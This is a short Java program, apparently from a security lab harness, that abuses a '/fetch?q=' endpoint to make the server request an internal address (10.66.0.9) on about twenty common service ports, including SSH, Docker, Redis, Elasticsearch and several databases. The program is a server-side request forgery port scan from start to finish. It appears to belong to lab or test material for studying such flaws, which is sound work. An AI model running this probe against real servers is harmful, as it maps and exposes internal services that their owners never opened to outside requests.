import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    for (int port :
        new int[] {
          22, 25, 80, 443, 1433, 1521, 2375, 3306, 5432, 5601, 6379, 7001, 8009, 8443, 8500, 9000,
          9090, 9200, 11211, 27017
        }) {
      Attacker.get("/fetch?q=" + Attacker.encode("http://10.66.0.9:" + port + "/"));
    }
    Attacker.done();
  }
}
